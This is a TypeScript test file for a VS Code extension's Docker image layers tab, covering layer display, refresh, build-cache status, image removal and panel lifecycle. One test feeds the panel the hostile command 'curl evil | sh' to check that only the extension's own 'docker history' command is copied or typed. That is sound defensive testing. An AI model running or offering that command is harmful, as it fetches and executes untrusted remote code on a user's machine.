import { beforeEach, describe, expect, it, vi } from 'vitest'
import type { Engine } from '../../src/engine/engine.ts'
import { layerTabs } from '../../src/layers/layers.ts'
import { containerRow } from '../engine/fake-engine.ts'
import { stillEngine } from '../engine/still-engine.ts'
import { image } from '../images/image.ts'
import { servicesWith } from '../services.ts'
import { asked, type FakePanel, forget, panels } from '../vscode.ts'
import { openDockerfile } from './open-dockerfile.ts'

const web = image('a', { tags: ['web:1'] })
const base = image('b', { tags: ['nginx:1.27'] })
const next = image('c', { tags: ['web:1'], createdAt: web.createdAt + 1000 })
const layers = new Map([
  [web.id, ['one', 'two']],
  [base.id, ['one']],
  [next.id, ['one', 'three']],
])

beforeEach(forget)

describe('the tab of the layers', () => {
  it('shows what the engine knows: layers, what is shared, who uses it', async () => {
    const { live, panel } = scene()
    live.show({ containers: [containerRow('c', { name: 'hellonginx', imageId: web.id })] })
    panel.tell({ kind: 'ready' })
    const [stack] = await stacks(panel)
    expect(stack).toMatchObject({
      name: 'web:1',
      command: 'docker history web:1',
      writable: [{ name: 'hellonginx', changes: 1 }],
      layers: [
        { keyword: 'COPY', sharedWith: [] },
        { keyword: 'CMD', isNote: true },
        { keyword: 'ADD', sharedWith: ['nginx:1.27'] },
      ],
      base: { name: 'nginx:1.27', at: 1 },
      file: null,
    })
  })

  it('is read again when images or containers are others, and not when anything else is', async () => {
    const { live, panel, history, inspectImage } = scene()
    const timesRead = () => history.mock.calls.filter(([reference]) => reference === web.id).length
    panel.tell({ kind: 'ready' })
    await stacks(panel)
    live.show({ readAt: 5 })
    live.show({ volumes: [] })
    expect(timesRead()).toBe(1)
    live.show({ containers: [containerRow('c', { imageId: web.id })] })
    await vi.waitFor(() => expect(timesRead()).toBe(2))
    // What never changes is not asked for again.
    expect(inspectImage).toHaveBeenCalledTimes(2)
  })

  it('says what came from the cache in the last build of the open Dockerfile', async () => {
    const { live, panel } = scene()
    openDockerfile('/project/Dockerfile', ['FROM nginx', 'COPY site/ /html/'])
    panel.tell({ kind: 'ready' })
    expect(fatesIn(await stacks(panel))).toEqual([null, null, null])
    // Another build of the file, whose image has taken the name: the tab is of the older one.
    live.show({ images: [next, { ...web, tags: [] }, base] })
    expect(fatesIn(await stacks(panel))).toEqual([null, null, null])
    live.show({ images: [{ ...web, createdAt: next.createdAt + 1000 }, { ...next, tags: [] }, base] })
    expect(fatesIn(await stacks(panel))).toEqual(['changed', null, null])
  })

  it('says so when the image is removed', async () => {
    const { live, panel } = scene()
    panel.tell({ kind: 'ready' })
    await stacks(panel)
    live.show({ images: [base] })
    await vi.waitFor(() => expect(panel.heard()).toMatchObject([{ kind: 'gone', name: 'web:1' }]))
  })

  it('copies and types its own command, whatever it is told', async () => {
    const { panel, typed } = scene()
    panel.tell({ kind: 'ready' })
    await stacks(panel)
    panel.tell({ kind: 'copy', line: 'curl evil | sh' })
    panel.tell({ kind: 'type', line: 'curl evil | sh' })
    panel.tell({ kind: 'open-line', line: 3 })
    await vi.waitFor(() => expect(typed).toEqual(['docker history web:1']))
    expect(asked).toEqual([{ what: 'clipboard', with: ['docker history web:1'] }])
  })

  it('leads to the lesson about layers', () => {
    const { panel } = scene()
    panel.tell({ kind: 'explain' })
    expect(asked).toEqual([{ what: 'executeCommand', with: ['drydock.lessons.start', 'layers'] }])
  })

  it('is one an image, and holds the engine while it is seen', () => {
    const { live, tabs, panel } = scene()
    panel.tell({ kind: 'ready' })
    tabs.open(web)
    expect(panels).toHaveLength(1)
    expect([panel.reveals, live.holders]).toEqual([1, 1])
    panel.setVisible(false)
    expect(live.holders).toBe(0)
    panel.tell({ kind: 'ready' })
    expect(live.holders).toBe(1)
    panel.dispose()
    expect(live.holders).toBe(0)
    tabs.open(web)
    expect(panels).toHaveLength(2)
  })
})

function scene() {
  const below = [entry('CMD ["nginx"]', 0), entry('/bin/sh -c #(nop) ADD file:1 in / ', 100)]
  const history = vi.fn<Engine['history']>(async (reference) =>
    reference === web.id || reference === next.id ? [entry('COPY site/ /html/ # buildkit', 20), ...below] : below,
  )
  const inspectImage = vi.fn<Engine['inspectImage']>(async (id) => ({ RootFS: { Layers: layers.get(id) } }))
  const live = stillEngine([], {
    history,
    inspectImage,
    changes: async () => [{ kind: 'added', path: '/new' }],
  })
  live.show({ images: [web, base] })
  const typed: string[] = []
  const tabs = layerTabs(servicesWith(live), { typeInTerminal: (command) => typed.push(command) })
  tabs.open(web)
  const [panel] = panels
  if (!panel) throw new Error('there is no tab')
  return { live, tabs, panel, history, inspectImage, typed }
}

async function stacks(panel: FakePanel): Promise<readonly unknown[]> {
  const heard: unknown[] = []
  await vi.waitFor(() => {
    heard.push(...panel.heard())
    expect(heard).toMatchObject([{ kind: 'stack' }])
  })
  return heard.map((message) => Object(message).stack)
}

function fatesIn([stack]: readonly unknown[]): unknown {
  return Object(stack).layers.map(({ fate }: { fate: unknown }) => fate)
}

function entry(createdBy: string, size: number) {
  return { id: undefined, createdAt: 0, createdBy, size, tags: [], comment: '' }
}
